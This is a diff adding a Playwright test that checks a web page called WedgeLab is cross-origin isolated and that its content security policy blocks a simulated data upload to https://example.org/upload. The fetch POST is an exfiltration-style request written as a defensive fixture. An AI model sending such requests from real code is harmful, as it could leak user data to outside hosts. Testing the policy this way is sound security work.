@@ -92,3 +92,32 @@ test('the icon and manifest links resolve, and nothing is fetched from another h
   expect(pageErrors).toEqual([]);
   await context.close();
 });
+
+test('the page is cross-origin isolated and its content security policy refuses every other origin', async ({ browser }) => {
+  const page = await browser.newPage();
+  await page.goto('/');
+  await expect(page).toHaveTitle('WedgeLab');
+  const state = await page.evaluate(() => ({
+    isolated: globalThis.crossOriginIsolated,
+    sharedMemory: typeof SharedArrayBuffer === 'function',
+    policy: document.querySelector<HTMLMetaElement>('meta[http-equiv="Content-Security-Policy"]')?.content ?? '',
+  }));
+  expect(state).toMatchObject({ isolated: true, sharedMemory: true });
+  expect(state.policy).toContain("default-src 'self'");
+  expect(state.policy).toContain("connect-src 'self'");
+  // A script that tried to send data elsewhere is stopped by the browser itself, before any request is made.
+  const attempt = await page.evaluate(async () => {
+    const violations: string[] = [];
+    document.addEventListener('securitypolicyviolation', (e) => violations.push(`${e.violatedDirective} ${e.blockedURI}`));
+    const outcome = await fetch('https://example.org/upload', { method: 'POST', body: 'tomogram' }).then(
+      () => 'sent',
+      () => 'blocked',
+    );
+    await new Promise((r) => setTimeout(r, 100));
+    // The policy comes as a header and as a meta tag: each reports the same violation.
+    return { outcome, violations: [...new Set(violations)] };
+  });
+  expect(attempt.outcome).toBe('blocked');
+  expect(attempt.violations).toEqual(['connect-src https://example.org/upload']);
+  await page.close();
+});
